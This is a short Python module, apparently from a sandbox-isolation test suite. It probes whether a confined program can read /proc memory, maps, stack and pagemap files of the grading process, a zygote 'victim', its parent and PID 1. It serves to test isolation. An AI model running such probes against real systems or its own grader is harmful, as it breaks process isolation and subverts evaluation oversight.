"""Reads memory, maps and status of the grading process, of the zygote and of its ancestor."""

import os

from tools import works


def attack(target):
    others = (target["grader"], target["victim"], os.getppid(), 1)
    return [
        f"/proc/{pid}/{name}"
        for pid in others
        for name in ("mem", "maps", "smaps", "auxv", "stack", "syscall", "clear_refs", "pagemap")
        if works(read_some, f"/proc/{pid}/{name}")
    ]


def read_some(path):
    with open(path, "rb") as stream:
        return len(stream.read(8)) > 0 or path.endswith("mem")
